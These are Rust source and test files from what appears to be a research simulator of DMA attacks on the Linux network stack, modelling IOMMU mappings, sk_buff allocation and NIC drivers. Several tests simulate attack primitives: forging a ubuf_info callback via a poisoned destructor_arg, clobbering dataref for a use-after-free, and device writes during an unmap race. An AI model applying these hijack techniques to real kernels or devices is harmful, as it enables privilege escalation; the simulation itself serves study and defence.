            // The device writes during the race window — still mapped.
            raced_while_mapped = iommu
                .dev_write(ctx, &mut mem.phys, 1, slot.mapping.iova, b"evil")
                .is_ok();
        })
        .unwrap()
        .unwrap();
        assert!(raced_while_mapped);
    }

    #[test]
    fn unmap_then_build_blocks_race_in_strict_mode() {
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(DriverConfig::default());
        iommu
            .dev_write(
                &mut ctx,
                &mut mem.phys,
                1,
                drv.rx_descriptors()[0].0,
                b"pkt",
            )
            .unwrap();
        drv.device_rx_complete(3).unwrap();
        let mut race_blocked = false;
        drv.rx_poll(&mut ctx, &mut mem, &mut iommu, |ctx, mem, iommu, slot| {
            race_blocked = iommu
                .dev_write(ctx, &mut mem.phys, 1, slot.mapping.iova, b"evil")
                .is_err();
        })
        .unwrap()
        .unwrap();
        assert!(
            race_blocked,
            "strict mode + correct order must fault the race write"
        );
    }

    #[test]
    fn tx_roundtrip_with_completion() {
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(DriverConfig::default());
        let mut skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 256).unwrap();
        skb.put(&mut ctx, &mut mem, b"tx-bytes").unwrap();
        let idx = drv.transmit(&mut ctx, &mut mem, &mut iommu, skb).unwrap();
        // Device reads the packet.
        let desc = &drv.tx_descriptors()[0];
        let mut buf = vec![0u8; desc.len];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, desc.iova, &mut buf)
            .unwrap();
        assert_eq!(&buf, b"tx-bytes");
        drv.device_tx_complete(idx).unwrap();
        let cbs = drv.tx_reap(&mut ctx, &mut mem, &mut iommu).unwrap();
        assert!(cbs.is_empty());
        assert_eq!(drv.tx_in_flight(), 0);
    }

    #[test]
    fn tx_watchdog_resets_after_timeout() {
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(DriverConfig::default());
        let skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 64).unwrap();
        drv.transmit(&mut ctx, &mut mem, &mut iommu, skb).unwrap();
        assert!(!drv
            .tx_timeout_check(&mut ctx, &mut mem, &mut iommu)
            .unwrap());
        ctx.clock.advance(drv.cfg.tx_timeout + 1);
        assert!(drv
            .tx_timeout_check(&mut ctx, &mut mem, &mut iommu)
            .unwrap());
        assert_eq!(drv.stats.resets, 1);
        assert_eq!(drv.tx_in_flight(), 0);
    }

    #[test]
    fn ctrl_block_is_mapped_bidirectionally_from_slab_page() {
        let cfg = DriverConfig {
            map_ctrl_block: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, drv) = setup(cfg);
        let (kva, m) = drv.ctrl_block.unwrap();
        // The control block lives on a kmalloc-512 slab page that other
        // 512-byte objects will share — the type (d) leak.
        assert_eq!(mem.kmalloc.cache_of(kva), Some("kmalloc-512"));
        let neighbour = mem.kmalloc(&mut ctx, 512, "sock_alloc_inode").unwrap();
        assert_eq!(kva.page_align_down(), neighbour.page_align_down());
        // Device can read AND write through it.
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, m.iova, b"w")
            .unwrap();
        let mut b = [0u8; 1];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, m.iova, &mut b)
            .unwrap();
    }

    #[test]
    fn lro_config_allocates_64k_buffers() {
        let cfg = DriverConfig {
            rx_buf_size: 65536,
            alloc: AllocPolicy::Kmalloc,
            rx_ring_size: 4,
            ..Default::default()
        };
        let (_, _, iommu, drv) = setup(cfg);
        assert_eq!(drv.rx_descriptors().len(), 4);
        // 4 × 16 pages mapped.
        assert_eq!(iommu.mapped_pages(1), 64);
    }

    #[test]
    fn xdp_mappings_are_readable_by_the_device() {
        // §5.1: XDP RX buffers are BIDIRECTIONAL — the device can *read*
        // back whatever lands on RX pages, not only write packets.
        let cfg = DriverConfig {
            xdp: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, drv) = setup(cfg);
        let (iova, _) = drv.rx_descriptors()[0];
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, iova, b"probe")
            .unwrap();
        let mut b = [0u8; 5];
        iommu
            .dev_read(&mut ctx, &mem.phys, 1, iova, &mut b)
            .unwrap();
        assert_eq!(&b, b"probe");
        // Without XDP the same read faults.
        let (mut ctx2, mut mem2, mut iommu2, drv2) = setup(DriverConfig::default());
        let (iova2, _) = drv2.rx_descriptors()[0];
        iommu2
            .dev_write(&mut ctx2, &mut mem2.phys, 1, iova2, b"probe")
            .unwrap();
        assert!(iommu2
            .dev_read(&mut ctx2, &mem2.phys, 1, iova2, &mut b)
            .is_err());
    }

    #[test]
    fn tx_ring_full_rejects_and_counts() {
        let cfg = DriverConfig {
            tx_ring_size: 2,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(cfg);
        for _ in 0..2 {
            let skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 64).unwrap();
            drv.transmit(&mut ctx, &mut mem, &mut iommu, skb).unwrap();
        }
        let skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 64).unwrap();
        let err = drv
            .transmit(&mut ctx, &mut mem, &mut iommu, skb)
            .unwrap_err();
        assert!(matches!(err, DmaError::RingFull));
        assert_eq!(drv.stats.tx_ring_full, 1);
        assert_eq!(drv.stats.tx_packets, 2);
        // Reaping frees a slot and transmit works again.
        drv.device_tx_complete(0).unwrap();
        drv.tx_reap(&mut ctx, &mut mem, &mut iommu).unwrap();
        let skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 64).unwrap();
        drv.transmit(&mut ctx, &mut mem, &mut iommu, skb).unwrap();
    }

    #[test]
    fn rx_refill_degrades_gracefully_under_injected_allocation_faults() {
        let mut ctx = SimCtx::new();
        ctx.faults = dma_core::FaultPlan::seeded(7).fail_every("sim_net.rx_refill", 3);
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        // Probe survives the faults: the ring comes up short, not broken.
        let drv = NicDriver::probe(DriverConfig::default(), &mut ctx, &mut mem, &mut iommu)
            .expect("probe must degrade, not fail");
        let posted = drv.rx_descriptors().len();
        assert!(posted > 0, "some buffers must still post");
        assert!(posted < 64, "every-3rd faulting must leave the ring short");
        assert!(drv.stats.rx_alloc_failed > 0);
        assert_eq!(drv.stats.rx_refill_retries, RX_REFILL_MAX_RETRIES as u64);
        assert!(ctx.faults.injected_total() > 0);
    }

    #[test]
    fn rx_map_failure_frees_the_buffer_and_the_retry_recovers() {
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(DriverConfig::default());
        iommu
            .dev_write(&mut ctx, &mut mem.phys, 1, drv.rx_descriptors()[0].0, b"p")
            .unwrap();
        drv.device_rx_complete(1).unwrap();
        // The next dma_map call is the refill remap inside rx_poll.
        ctx.faults = dma_core::FaultPlan::seeded(1).fail_nth("sim_iommu.dma_map", 1);
        let skb = drv
            .rx_poll_quiet(&mut ctx, &mut mem, &mut iommu)
            .unwrap()
            .unwrap();
        assert_eq!(skb.len, 1);
        assert_eq!(drv.stats.rx_map_failed, 1);
        // The retry filled the ring back to capacity.
        assert_eq!(drv.rx_descriptors().len(), 64);
    }

    #[test]
    fn shutdown_releases_every_mapping() {
        let cfg = DriverConfig {
            map_ctrl_block: true,
            ..Default::default()
        };
        let (mut ctx, mut mem, mut iommu, mut drv) = setup(cfg);
        // Leave the driver mid-flight: an unreaped TX and a completed RX.
        let mut skb = crate::skb::alloc_skb(&mut ctx, &mut mem, 128).unwrap();
        skb.put(&mut ctx, &mut mem, b"inflight").unwrap();
        drv.transmit(&mut ctx, &mut mem, &mut iommu, skb).unwrap();
        drv.device_rx_complete(16).unwrap();
        assert!(iommu.mapped_pages(1) > 0);
        drv.shutdown(&mut ctx, &mut mem, &mut iommu).unwrap();
        assert_eq!(
            iommu.mapped_pages(1),
            0,
            "shutdown must leave zero live mappings"
        );
    }

    #[test]
    fn device_rx_complete_on_empty_ring_fails() {
        let cfg = DriverConfig {
            rx_ring_size: 1,
            ..Default::default()
        };
        let (_, _, _, mut drv) = setup(cfg);
        drv.device_rx_complete(10).unwrap();
        assert!(drv.device_rx_complete(10).is_err());
    }

    #[test]
    fn rx_refill_links_each_mapping_to_its_covered_allocation() {
        // The RX-refill path allocates a buffer and immediately maps it
        // for the device; in the provenance graph every nic_rx_map event
        // must carry a MapCoversObject edge back to the Alloc it covers.
        use dma_core::{EdgeKind, Event, ProvenanceGraph};
        let mut ctx = dma_core::SimCtx::traced();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut iommu = Iommu::new(IommuConfig {
            mode: InvalidationMode::Strict,
            ..Default::default()
        });
        let _drv =
            NicDriver::probe(DriverConfig::default(), &mut ctx, &mut mem, &mut iommu).unwrap();

        let mut g = ProvenanceGraph::new();
        g.ingest_all(ctx.trace.drain());
        let rx_maps: Vec<usize> = (0..g.len())
            .filter(|&i| matches!(g.event(i), Event::DmaMap { site, .. } if site.contains("rx")))
            .collect();
        assert!(!rx_maps.is_empty(), "probe fills the RX ring through maps");
        for m in rx_maps {
            let covered = g.parents(m).iter().any(|&(p, k)| {
                k == EdgeKind::MapCoversObject && matches!(g.event(p), Event::Alloc { .. })
            });
            assert!(
                covered,
                "map {m} has no covered allocation: {:?}",
                g.parents(m)
            );
        }
    }
}
