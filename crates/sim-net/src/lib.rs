//! A simulated Linux network-stack substrate.
//!
//! This is the subsystem the paper's compound attacks live in: 60 % of
//! the DMA vulnerabilities SPADE finds trace back to Linux networking
//! design choices (§5). The crate reproduces those choices byte-for-byte
//! where they matter:
//!
//! - [`shinfo`] — the on-page layout of `skb_shared_info` (including
//!   `destructor_arg`) and `ubuf_info`. `skb_shared_info` is **always**
//!   allocated at the tail of the packet data buffer, so it is **always**
//!   DMA-mapped with the packet's permissions (§5.1, Figure 4).
//! - [`skb`] — `sk_buff` allocation (`alloc_skb`, `netdev_alloc_skb`,
//!   `build_skb`) and release; `kfree_skb` consults `destructor_arg` *in
//!   simulated memory* and surfaces the callback for the CPU to invoke —
//!   the hijack point.
//! - [`packet`] — a minimal packet format (flow, protocol, payload).
//! - [`descring`] — the DMA-mapped descriptor ring: how a device really
//!   learns buffer IOVAs, and one more writable-metadata surface.
//! - [`driver`] — NIC driver models with configurable RX allocation
//!   policy, buffer size (2 KiB vs 64 KiB HW-LRO), and unmap ordering
//!   (the i40e-style build-then-unmap bug of Figure 7 path (i)).
//! - [`gro`] — Generic Receive Offload: merges linear segments into one
//!   sk_buff whose `frags[]` hold `struct page` pointers — the kernel
//!   itself writing KVAs onto device-visible pages (Figure 9).
//! - [`stack`] — sockets (with their `init_net` namespace pointers),
//!   an echo service, and IP forwarding.

pub mod descring;
pub mod driver;
pub mod gro;
pub mod packet;
pub mod shinfo;
pub mod skb;
pub mod stack;

pub use descring::{DescRing, Descriptor};
pub use driver::{AllocPolicy, DriverConfig, DriverStats, NicDriver, UnmapOrder};
pub use gro::GroEngine;
pub use packet::{FlowId, Packet, Proto};
pub use shinfo::{SHINFO_SIZE, UBUF_INFO_SIZE};
pub use skb::{AllocKind, PendingCallback, SkBuff};
pub use stack::{NetStack, StackConfig};
