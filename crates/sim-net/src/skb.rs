//! `sk_buff` allocation and release.
//!
//! The `sk_buff` struct itself lives on the host side and is never
//! DMA-mapped — exactly as in Linux, where it is a common belief that
//! this makes the network stack safe from DMA attacks (§5.1). What *is*
//! always mapped is the data buffer, and `skb_shared_info` is always
//! allocated at its tail. `kfree_skb` reads `destructor_arg` back from
//! simulated memory and, if set, surfaces the `ubuf_info` callback for
//! invocation — that read-from-attackable-memory is the control-flow
//! hijack the paper builds on (Figure 4 step (d)).

use crate::packet::FlowId;
use crate::shinfo::{SharedInfo, UbufInfo, SHINFO_SIZE};
use dma_core::{DmaError, Kva, Result, SimCtx};
use sim_mem::MemorySystem;

/// Headroom reserved before packet data (`NET_SKB_PAD`).
pub const NET_SKB_PAD: usize = 64;

/// How an skb's data buffer was allocated (controls how it is freed).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AllocKind {
    /// From the per-CPU `page_frag` allocator (`netdev_alloc_skb`).
    PageFrag,
    /// From `kmalloc` (`__alloc_skb`).
    Kmalloc,
    /// Whole pages from the buddy allocator (HW-LRO style drivers).
    Pages {
        /// Buddy order of the allocation.
        order: u32,
    },
}

/// A deferred callback discovered by `kfree_skb`: the CPU will call
/// `callback(arg)`. In benign operation this is zero-copy completion
/// accounting; in an attack it is the hijacked control transfer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct PendingCallback {
    /// Function pointer read from `ubuf_info.callback`.
    pub callback: Kva,
    /// The `ubuf_info` pointer itself, passed in `%rdi` (§6: "the kernel
    /// then passes the callback in the %rdi register to its containing
    /// struct").
    pub arg: Kva,
}

/// A socket buffer. Host-side metadata only; all attackable state (the
/// shared info, the payload) lives in simulated memory.
#[derive(Clone, Debug)]
pub struct SkBuff {
    /// KVA of the data buffer's first byte.
    pub data: Kva,
    /// Bytes from `data` to the `skb_shared_info` (the "end" offset).
    pub buf_size: usize,
    /// Offset of the packet payload within the buffer (headroom).
    pub data_offset: usize,
    /// Linear payload length.
    pub len: usize,
    /// How the data buffer was allocated.
    pub alloc: AllocKind,
    /// Flow this skb belongs to, once classified.
    pub flow: Option<FlowId>,
    /// Owning socket object (kmalloc'd; holds the init_net pointer).
    pub sock: Option<Kva>,
    /// Buffers owned by this skb because their payloads were attached as
    /// fragments (GRO merge, zero-copy echo): freed with the skb.
    pub owned_frag_buffers: Vec<(Kva, AllocKind)>,
}

impl SkBuff {
    /// KVA of the `skb_shared_info` (always `data + buf_size`).
    pub fn shinfo_kva(&self) -> Kva {
        Kva(self.data.raw() + self.buf_size as u64)
    }

    /// Typed accessor for the shared info.
    pub fn shinfo(&self) -> SharedInfo {
        SharedInfo {
            base: self.shinfo_kva(),
        }
    }

    /// KVA of the first payload byte.
    pub fn payload_kva(&self) -> Kva {
        Kva(self.data.raw() + self.data_offset as u64)
    }

    /// Total buffer footprint including the shared info (`truesize`-ish).
    pub fn truesize(&self) -> usize {
        self.buf_size + SHINFO_SIZE
    }

    /// Appends payload bytes (`skb_put`).
    pub fn put(&mut self, ctx: &mut SimCtx, mem: &mut MemorySystem, bytes: &[u8]) -> Result<()> {
        if self.data_offset + self.len + bytes.len() > self.buf_size {
            return Err(DmaError::InvalidAlloc(bytes.len()));
        }
        let dst = Kva(self.data.raw() + (self.data_offset + self.len) as u64);
        mem.cpu_write(ctx, dst, bytes, "skb_put")?;
        self.len += bytes.len();
        Ok(())
    }

    /// Reads the linear payload back.
    pub fn payload(&self, ctx: &mut SimCtx, mem: &MemorySystem) -> Result<Vec<u8>> {
        let mut buf = vec![0u8; self.len];
        mem.cpu_read(ctx, self.payload_kva(), &mut buf, "skb_read")?;
        Ok(buf)
    }
}

/// Rounds a requested payload capacity up the way `__alloc_skb` does
/// (`SKB_DATA_ALIGN`: cacheline alignment).
pub fn skb_data_align(len: usize) -> usize {
    (len + 63) & !63
}

/// `__alloc_skb()`: kmalloc-backed buffer (headroom + data + shared
/// info), shared info initialized.
pub fn alloc_skb(ctx: &mut SimCtx, mem: &mut MemorySystem, len: usize) -> Result<SkBuff> {
    let buf_size = skb_data_align(NET_SKB_PAD + len);
    let data = mem.kmalloc(ctx, buf_size + SHINFO_SIZE, "__alloc_skb")?;
    finish_skb(ctx, mem, data, buf_size, AllocKind::Kmalloc)
}

/// `netdev_alloc_skb()` / `napi_alloc_skb()`: page_frag-backed buffer.
///
/// This is the allocation path that creates type (c) vulnerabilities:
/// consecutive calls carve the same 32 KiB region, so RX buffers share
/// pages (§5.2.2).
pub fn netdev_alloc_skb(ctx: &mut SimCtx, mem: &mut MemorySystem, len: usize) -> Result<SkBuff> {
    let buf_size = skb_data_align(NET_SKB_PAD + len);
    let data = mem.page_frag_alloc(ctx, buf_size + SHINFO_SIZE, "netdev_alloc_skb")?;
    finish_skb(ctx, mem, data, buf_size, AllocKind::PageFrag)
}

/// `build_skb()`: wraps an *existing* buffer (e.g. an RX buffer the
/// device just filled), embedding the shared info at `data + buf_size`.
///
/// §9.1 calls this API out by name: it "facilitates building an sk_buff
/// around an arbitrary I/O buffer, in turn embedding critical data
/// structures inside the I/O buffer".
pub fn build_skb(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    data: Kva,
    buf_size: usize,
    alloc: AllocKind,
) -> Result<SkBuff> {
    finish_skb(ctx, mem, data, buf_size, alloc)
}

fn finish_skb(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    data: Kva,
    buf_size: usize,
    alloc: AllocKind,
) -> Result<SkBuff> {
    let skb = SkBuff {
        data,
        buf_size,
        data_offset: NET_SKB_PAD,
        len: 0,
        alloc,
        flow: None,
        sock: None,
        owned_frag_buffers: Vec::new(),
    };
    skb.shinfo().init(ctx, mem)?;
    Ok(skb)
}

fn free_buffer(ctx: &mut SimCtx, mem: &mut MemorySystem, kva: Kva, alloc: AllocKind) -> Result<()> {
    match alloc {
        AllocKind::PageFrag => mem.page_frag_free(ctx, kva),
        AllocKind::Kmalloc => mem.kfree(ctx, kva),
        AllocKind::Pages { order } => {
            let pfn = mem.layout.kva_to_pfn(kva)?;
            mem.free_pages(ctx, pfn, order)
        }
    }
}

/// `skb_clone()`: copies the sk_buff metadata only; the clone and the
/// original *share the data buffer* (§5.1: "the Linux network stack
/// supports packet cloning by merely copying sk_buff metadata").
/// `skb_shared_info.dataref` counts the sharers.
pub fn skb_clone(ctx: &mut SimCtx, mem: &mut MemorySystem, skb: &SkBuff) -> Result<SkBuff> {
    let sh = skb.shinfo();
    let refs = sh.dataref(ctx, mem)?;
    sh.set_dataref(ctx, mem, refs + 1)?;
    Ok(SkBuff {
        data: skb.data,
        buf_size: skb.buf_size,
        data_offset: skb.data_offset,
        len: skb.len,
        alloc: skb.alloc,
        flow: skb.flow,
        sock: skb.sock,
        // Owned fragment buffers are freed by whoever drops the last
        // dataref; only the original carries the list.
        owned_frag_buffers: Vec::new(),
    })
}

/// `kfree_skb()`: drops one reference; releases the skb and its owned
/// buffers when the last reference dies.
///
/// Before freeing, the kernel consults `skb_shared_info.destructor_arg`
/// **in memory** — memory the device may have been writing to. A nonzero
/// value is interpreted as a `ubuf_info*` whose `callback` the CPU will
/// invoke. The returned [`PendingCallback`] is that invocation; the
/// caller (the CPU model) performs it.
pub fn kfree_skb(
    ctx: &mut SimCtx,
    mem: &mut MemorySystem,
    skb: SkBuff,
) -> Result<Option<PendingCallback>> {
    let sh = skb.shinfo();
    let refs = sh.dataref(ctx, mem)?;
    if refs > 1 {
        // Shared data buffer: drop our reference, keep the buffer. The
        // destructor fires only on the final free.
        sh.set_dataref(ctx, mem, refs - 1)?;
        return Ok(None);
    }
    let darg = skb.shinfo().destructor_arg(ctx, mem)?;
    let pending = if darg != 0 {
        let ubuf = UbufInfo { base: Kva(darg) };
        // The callback pointer is itself read from attackable memory.
        match ubuf.callback(ctx, mem) {
            Ok(cb) if cb != 0 => Some(PendingCallback {
                callback: Kva(cb),
                arg: Kva(darg),
            }),
            _ => None,
        }
    } else {
        None
    };
    for (kva, alloc) in &skb.owned_frag_buffers {
        free_buffer(ctx, mem, *kva, *alloc)?;
    }
    free_buffer(ctx, mem, skb.data, skb.alloc)?;
    Ok(pending)
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_mem::MemConfig;

    fn mk() -> (SimCtx, MemorySystem) {
        (SimCtx::new(), MemorySystem::new(&MemConfig::default()))
    }

    #[test]
    fn shinfo_is_always_inside_the_buffer() {
        // §5.1: "skb_shared_info ... is *always* allocated as part of the
        // data buffer. Therefore it is *always* mapped to the device."
        let (mut ctx, mut mem) = mk();
        for skb in [
            alloc_skb(&mut ctx, &mut mem, 1500).unwrap(),
            netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap(),
        ] {
            assert_eq!(skb.shinfo_kva().raw(), skb.data.raw() + skb.buf_size as u64);
            // For MTU-sized packets the whole thing fits one or two pages.
            assert!(skb.truesize() <= 2048);
        }
    }

    #[test]
    fn put_and_read_payload() {
        let (mut ctx, mut mem) = mk();
        let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
        skb.put(&mut ctx, &mut mem, b"abc").unwrap();
        skb.put(&mut ctx, &mut mem, b"def").unwrap();
        assert_eq!(skb.len, 6);
        assert_eq!(skb.payload(&mut ctx, &mem).unwrap(), b"abcdef");
    }

    #[test]
    fn put_overflow_rejected() {
        let (mut ctx, mut mem) = mk();
        let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 100).unwrap();
        let cap = skb.buf_size - skb.data_offset;
        assert!(skb.put(&mut ctx, &mut mem, &vec![0u8; cap + 1]).is_err());
    }

    #[test]
    fn benign_free_has_no_callback() {
        let (mut ctx, mut mem) = mk();
        let skb = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
        assert_eq!(kfree_skb(&mut ctx, &mut mem, skb).unwrap(), None);
    }

    #[test]
    fn poisoned_destructor_arg_surfaces_callback() {
        // Figure 4 steps (b)–(d) from the CPU's perspective.
        let (mut ctx, mut mem) = mk();
        let skb = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
        // "Device" forges a ubuf_info inside the payload area and points
        // destructor_arg at it. (Here we emulate the write CPU-side; the
        // attack crates do it over real DMA.)
        let forged = skb.payload_kva();
        UbufInfo { base: forged }
            .write(&mut ctx, &mut mem, 0xffff_ffff_8150_0000, 0, 0)
            .unwrap();
        skb.shinfo()
            .set_destructor_arg(&mut ctx, &mut mem, forged.raw())
            .unwrap();
        let cb = kfree_skb(&mut ctx, &mut mem, skb).unwrap().unwrap();
        assert_eq!(cb.callback, Kva(0xffff_ffff_8150_0000));
        assert_eq!(cb.arg, forged);
    }

    #[test]
    fn owned_frag_buffers_are_freed() {
        let (mut ctx, mut mem) = mk();
        let extra = mem.kmalloc(&mut ctx, 2048, "frag").unwrap();
        let mut skb = alloc_skb(&mut ctx, &mut mem, 100).unwrap();
        skb.owned_frag_buffers.push((extra, AllocKind::Kmalloc));
        kfree_skb(&mut ctx, &mut mem, skb).unwrap();
        // Freed: the next kmalloc of the class reuses it (LIFO).
        let again = mem.kmalloc(&mut ctx, 2048, "x").unwrap();
        assert_eq!(again, extra);
    }

    #[test]
    fn build_skb_wraps_raw_buffers() {
        let (mut ctx, mut mem) = mk();
        let raw = mem.page_frag_alloc(&mut ctx, 2048, "rx_refill").unwrap();
        let skb = build_skb(
            &mut ctx,
            &mut mem,
            raw,
            2048 - SHINFO_SIZE,
            AllocKind::PageFrag,
        )
        .unwrap();
        assert_eq!(skb.data, raw);
        assert_eq!(skb.shinfo().nr_frags(&mut ctx, &mem).unwrap(), 0);
        kfree_skb(&mut ctx, &mut mem, skb).unwrap();
    }
}
