//! `skb_clone` semantics (§5.1) and the attack angle on `dataref`: the
//! share count is *itself* on the DMA-mapped page.

use dma_core::SimCtx;
use sim_mem::{MemConfig, MemorySystem};
use sim_net::skb::{kfree_skb, netdev_alloc_skb, skb_clone};

fn mk() -> (SimCtx, MemorySystem) {
    (SimCtx::new(), MemorySystem::new(&MemConfig::default()))
}

#[test]
fn clone_shares_the_data_buffer() {
    let (mut ctx, mut mem) = mk();
    let mut orig = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    orig.put(&mut ctx, &mut mem, b"shared-bytes").unwrap();
    let clone = skb_clone(&mut ctx, &mut mem, &orig).unwrap();
    assert_eq!(clone.data, orig.data, "metadata copy only — same buffer");
    assert_eq!(clone.payload(&mut ctx, &mem).unwrap(), b"shared-bytes");
    assert_eq!(orig.shinfo().dataref(&mut ctx, &mem).unwrap(), 2);
}

#[test]
fn buffer_survives_until_last_reference() {
    let (mut ctx, mut mem) = mk();
    let mut orig = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    orig.put(&mut ctx, &mut mem, b"payload").unwrap();
    let clone = skb_clone(&mut ctx, &mut mem, &orig).unwrap();
    let data = orig.data;

    // Free the original: the clone still reads intact data.
    assert_eq!(kfree_skb(&mut ctx, &mut mem, orig).unwrap(), None);
    assert_eq!(clone.payload(&mut ctx, &mem).unwrap(), b"payload");
    assert_eq!(clone.shinfo().dataref(&mut ctx, &mem).unwrap(), 1);

    // Final free releases the fragment: the next netdev alloc reuses it.
    kfree_skb(&mut ctx, &mut mem, clone).unwrap();
    // page_frag recycling is region-based; at minimum the free must not
    // have double-freed (checked by the allocator) and a new skb works.
    let again = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    assert!(again.data.raw() != 0);
    let _ = data;
}

#[test]
fn nested_clones_count_correctly() {
    let (mut ctx, mut mem) = mk();
    let orig = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    let c1 = skb_clone(&mut ctx, &mut mem, &orig).unwrap();
    let c2 = skb_clone(&mut ctx, &mut mem, &c1).unwrap();
    assert_eq!(orig.shinfo().dataref(&mut ctx, &mem).unwrap(), 3);
    kfree_skb(&mut ctx, &mut mem, c2).unwrap();
    kfree_skb(&mut ctx, &mut mem, c1).unwrap();
    assert_eq!(orig.shinfo().dataref(&mut ctx, &mem).unwrap(), 1);
    kfree_skb(&mut ctx, &mut mem, orig).unwrap();
}

#[test]
fn destructor_fires_only_on_the_last_free() {
    let (mut ctx, mut mem) = mk();
    let skb = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    let clone = skb_clone(&mut ctx, &mut mem, &skb).unwrap();
    // Poison destructor_arg + a ubuf in the payload (CPU-side stand-in
    // for the DMA write).
    let forged = skb.payload_kva();
    sim_net::shinfo::UbufInfo { base: forged }
        .write(&mut ctx, &mut mem, 0xffff_ffff_8150_0000, 0, 0)
        .unwrap();
    skb.shinfo()
        .set_destructor_arg(&mut ctx, &mut mem, forged.raw())
        .unwrap();

    // First free: refcount drop only — no callback surfaces yet.
    assert_eq!(kfree_skb(&mut ctx, &mut mem, skb).unwrap(), None);
    // Last free: the (poisoned) callback surfaces.
    let cb = kfree_skb(&mut ctx, &mut mem, clone).unwrap().unwrap();
    assert_eq!(cb.callback.raw(), 0xffff_ffff_8150_0000);
}

#[test]
fn dataref_is_attackable_state() {
    // The share count lives in skb_shared_info — on the mapped page. A
    // device zeroing it turns the *first* free into the final one: a
    // use-after-free primitive against the still-live clone.
    let (mut ctx, mut mem) = mk();
    let mut orig = netdev_alloc_skb(&mut ctx, &mut mem, 1500).unwrap();
    orig.put(&mut ctx, &mut mem, b"precious").unwrap();
    let clone = skb_clone(&mut ctx, &mut mem, &orig).unwrap();
    // "Device" clobbers dataref down to 1.
    orig.shinfo().set_dataref(&mut ctx, &mut mem, 1).unwrap();
    kfree_skb(&mut ctx, &mut mem, orig).unwrap();
    // The clone now dangles: its buffer was released while referenced.
    // (The simulator's allocator will happily hand the region out again;
    // the clone reading it afterwards is the UAF.)
    let _uaf_view = clone.payload(&mut ctx, &mem).unwrap();
}
