//! Property-style tests for the network substrate: wire-format
//! roundtrips, shared-info field isolation, skb payload integrity, and
//! GRO sequence reconstruction.
//!
//! Inputs are generated from the in-tree seeded `DetRng` (no external
//! property-testing framework) so the suite builds offline.

use dma_core::{DetRng, SimCtx};
use sim_mem::{MemConfig, MemorySystem};
use sim_net::gro::GroEngine;
use sim_net::packet::Packet;
use sim_net::shinfo::{Frag, MAX_FRAGS};
use sim_net::skb::netdev_alloc_skb;

const CASES: usize = 64;

#[test]
fn packet_wire_roundtrip() {
    let mut meta = DetRng::new(0x41);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let src = rng.next_u64() as u32;
        let dst = rng.next_u64() as u32;
        let seq = rng.next_u64() as u32;
        let mut payload = vec![0u8; rng.below(1400) as usize];
        rng.fill_bytes(&mut payload);
        let is_tcp = rng.chance(1, 2);
        let p = if is_tcp {
            Packet::tcp(src, dst, seq, payload)
        } else {
            Packet::udp(src, dst, payload)
        };
        assert_eq!(Packet::from_wire(&p.to_wire()), Some(p), "case {case}");
    }
}

#[test]
fn from_wire_is_total() {
    let mut meta = DetRng::new(0x42);
    for _ in 0..CASES * 4 {
        let mut rng = meta.fork();
        let mut bytes = vec![0u8; rng.below(200) as usize];
        rng.fill_bytes(&mut bytes);
        let _ = Packet::from_wire(&bytes);
    }
}

#[test]
fn skb_payload_roundtrip() {
    let mut meta = DetRng::new(0x43);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let mut skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
        let mut expect = Vec::new();
        let nchunks = rng.range(1, 7) as usize;
        for _ in 0..nchunks {
            let mut c = vec![0u8; rng.range(1, 99) as usize];
            rng.fill_bytes(&mut c);
            if skb.data_offset + skb.len + c.len() <= skb.buf_size {
                skb.put(&mut ctx, &mut mem, &c).unwrap();
                expect.extend_from_slice(&c);
            }
        }
        assert_eq!(skb.payload(&mut ctx, &mem).unwrap(), expect, "case {case}");
    }
}

#[test]
fn shinfo_frag_slots_are_independent() {
    let mut meta = DetRng::new(0x44);
    for case in 0..CASES {
        let mut rng = meta.fork();
        let mut ctx = SimCtx::new();
        let mut mem = MemorySystem::new(&MemConfig::default());
        let skb = netdev_alloc_skb(&mut ctx, &mut mem, 1600).unwrap();
        let sh = skb.shinfo();
        let nfrags = rng.range(1, MAX_FRAGS as u64 - 1) as usize;
        let frags: Vec<(u64, u32, u32)> = (0..nfrags)
            .map(|_| (rng.next_u64(), rng.next_u64() as u32, rng.next_u64() as u32))
            .collect();
        for (i, &(page, offset, size)) in frags.iter().enumerate() {
            sh.set_frag(&mut ctx, &mut mem, i, Frag { page, offset, size })
                .unwrap();
        }
        // destructor_arg (between the header fields and frags) untouched.
